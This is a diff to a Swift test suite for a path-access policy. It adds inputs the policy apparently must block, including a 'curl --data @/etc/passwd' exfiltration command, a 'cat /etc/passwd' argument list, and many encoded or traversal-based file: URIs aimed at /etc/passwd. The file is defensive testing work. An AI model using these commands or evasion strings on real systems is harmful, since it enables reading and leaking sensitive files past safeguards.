@@ -49,7 +49,11 @@ struct PolicyPathTests {
         #"{"cmd": "curl --data @/etc/passwd x"}"#,
         #"{"argv": ["cat", "/etc/passwd"]}"#, #"["/etc/passwd"]"#, #"{"path": {"value": ["../etc/passwd"]}}"#,
         #"{"url": "file:///etc/passwd#x"}"#, #"{"path": "docs:///etc/passwd"}"#,
-        // A sign that ends a path is none when it was encoded.
+        #"{"uri": "file:///x%5Cy\\../etc/passwd"}"#,
+        // A sign that ends a path, or begins a host, is none when it was encoded.
+        #"{"uri": "file:/%2fetc%2fpasswd"}"#, #"{"uri": "FILE:/%2F%65tc/passwd#x"}"#,
+        #"{"uri": "file:/%252fetc/passwd"}"#,
+        #"{"uri": "file:///tmp/x%3F/.././%2Fe%74%63/../../etc/passwd?q=1"}"#,
         #"{"uri": "file:///tmp/x%23/%2e%2e/%2e%2e/etc/passwd"}"#,
         #"{"uri": "file:///tmp/x%3F/%2e%2e/..%2fetc/passwd"}"#,
         #"{"uri": "file://localhost/tmp/x%23/%2e%2e/%2e%2e/etc/passwd"}"#,
